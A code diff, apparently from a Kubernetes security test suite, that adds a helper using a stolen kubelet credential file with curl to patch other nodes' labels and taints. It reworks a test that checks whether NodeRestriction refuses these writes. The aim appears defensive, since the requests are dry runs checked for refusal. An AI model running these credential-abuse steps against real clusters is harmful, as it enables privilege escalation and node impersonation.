@@ -1,6 +1,6 @@
 import { type Attack, joined, type Outcome, said, type Target, textOf } from './attack';
 import { accountToken, scenery } from './scenery';
-import { curl, curlCommand, liftFirewall, stolenKubeletCredential } from './steps';
+import { apiUrl, curl, curlCommand, liftFirewall, stolenKubeletCredential } from './steps';
 
 const kubelet = (target: Target, path: string, port = 10250) =>
   `${port === 10250 ? 'https' : 'http'}://${target.victim.address}:${port}${path}`;
@@ -21,6 +21,22 @@ async function asKubelet(target: Target, ...commands: readonly (readonly string[
   const outcomes: Outcome[] = [];
   for (const args of commands) outcomes.push(await target.kubectl(args, { as }));
   return joined(...outcomes);
+}
+
+/**
+ * Changes a node with the credential of the broken-into one, on that node and without a look first: kubectl reads
+ * before it writes, and a kubelet may not even read another node.
+ */
+async function patchNode(target: Target, node: string, patch: object): Promise<Outcome> {
+  const credential = '/var/lib/kubelet/pki/kubelet-client-current.pem';
+  const type = 'Content-Type: application/strategic-merge-patch+json';
+  return target.onNode(
+    target.victim,
+    curlCommand(
+      ...['--cert', credential, '--key', credential, '-X', 'PATCH', '-H', type, '-d', JSON.stringify(patch)],
+      apiUrl(target, `/api/v1/nodes/${node}?dryRun=All&pretty=false`),
+    ),
+  );
 }
 
 /** Attacks on kubelets, and with what a broken-into node gives away. */
@@ -85,19 +101,17 @@ export const nodeAttacks: readonly Attack[] = [
     title: 'Relabel another node, pose as a trusted one, and shed a taint with a stolen kubelet credential',
     source: 'Microsoft MS-M9027; kubernetes noderestriction/admission.go',
     weakness: 'no-node-restriction',
-    run: (target) => {
+    async run(target) {
       const { name } = target.victim;
-      const dry = ['--dry-run=server', '--overwrite'];
-      return asKubelet(
-        target,
-        ['label', 'node', target.otherNode, 'x=y', ...dry],
-        ['label', 'node', name, 'node-restriction.kubernetes.io/tier=gold', ...dry],
-        ['taint', 'node', name, 'lure=yes:NoSchedule', ...dry],
+      return joined(
+        await patchNode(target, target.otherNode, { metadata: { labels: { x: 'y' } } }),
+        await patchNode(target, name, { metadata: { labels: { 'node-restriction.kubernetes.io/tier': 'gold' } } }),
+        await patchNode(target, name, { spec: { taints: [{ key: 'lure', effect: 'NoSchedule' }] } }),
       );
     },
     refused:
-      /is not allowed to modify node "[\w-]+"[\s\S]*is not allowed to modify labels: node-restriction\.kubernetes\.io\/tier[\s\S]*is not allowed to modify taints/,
-    succeeds: /labeled[\s\S]*labeled[\s\S]*(tainted|modified)/,
+      /node \\"[\w-]+\\" is not allowed to modify node \\"[\w-]+\\"[\s\S]*is not allowed to modify labels: node-restriction\.kubernetes\.io\/tier[\s\S]*is not allowed to modify taints/,
+    succeeds: /"x":"y"[\s\S]*HTTP 200[\s\S]*tier":"gold"[\s\S]*HTTP 200[\s\S]*"key":"lure"[\s\S]*HTTP 200/,
   },
   {
     id: 'A28',
